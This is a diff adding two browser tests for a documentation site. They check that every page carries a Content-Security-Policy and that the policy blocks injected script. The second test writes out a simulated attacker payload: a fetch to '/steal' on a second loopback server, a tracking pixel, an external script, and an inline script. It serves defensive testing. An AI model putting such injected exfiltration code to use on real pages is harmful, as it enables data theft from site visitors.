@@ -50,3 +50,71 @@ def test_a_page_that_frames_the_offline_copy_cannot_feed_its_search(browser, off
     assert "stride" in chapter_frame.inner_text(".md-search-result__list").lower()
     assert chapter_frame.evaluate("window.__owned || 0") == 0
     visit.close()
+
+
+def test_every_page_carries_its_policy_first_in_head(site):
+    """Every page of both languages (and the root and 404 pages) starts its <head> with its policy;
+    the policy names the SHA-256 of each inline script of that page and no other inline script."""
+    import re
+    import sys
+
+    from helpers import ROOT
+
+    sys.path.insert(0, str(ROOT / "scripts"))
+    import csp
+
+    pages = sorted(site.rglob("*.html"))
+    assert len(pages) > 100
+    hashes = set()
+    for page in pages:
+        html = page.read_text(encoding="utf-8")
+        head = html[re.search(r"<head\b[^>]*>", html).end():]
+        m = re.match(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
+        assert m, page
+        policy = m.group(1)
+        assert "default-src 'self'" in policy and "object-src 'none'" in policy and "'unsafe-inline'" not in \
+            policy.split("script-src")[1].split(";")[0], page
+        assert policy == csp.policy(html.replace(m.group(0), "")), page
+        hashes.update(csp.inline_hashes(html))
+        assert re.search(rb"<meta charset=.?utf-8", html.encode()[:1024], re.I), page  # still found by the encoding sniffer
+    assert len(hashes) >= 5
+
+
+def test_the_policy_blocks_a_request_to_another_host(browser, served):  # noqa: F811
+    """A script injected into a page (as an attacker's would be) can neither fetch from another
+    host nor load an image or a script from it, nor run an inline script: the policy blocks each,
+    and the other host (a second server on loopback: another origin) receives no request."""
+    import functools
+    import http.server
+    import threading
+
+    hits = []
+
+    class Other(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            hits.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other)
+    threading.Thread(target=other.serve_forever, daemon=True).start()
+    there = f"http://127.0.0.1:{other.server_address[1]}"
+    visit = Visit(browser, f"{served}en/sliding-window/")
+    page = visit.page
+    page.evaluate("""there => {
+        fetch(there + '/steal?x=1').catch(() => {});
+        const img = new Image(); img.src = there + '/pixel.gif'; document.body.append(img);
+        const s = document.createElement('script'); s.src = there + '/x.js'; document.head.append(s);
+        const inline = document.createElement('script'); inline.textContent = 'window.__ran = 1'; document.head.append(inline);
+    }""", there)
+    page.wait_for_timeout(800)
+    blocked = [e for e in visit.errors if e.startswith("Content-Security-Policy:")]
+    assert any("connect-src" in e for e in blocked) and any("img-src" in e for e in blocked), visit.errors
+    assert sum("script-src" in e for e in blocked) == 2, visit.errors  # the other host's script and the inline one
+    assert page.evaluate("window.__ran === undefined")
+    assert hits == []
+    visit.close()
+    other.shutdown()
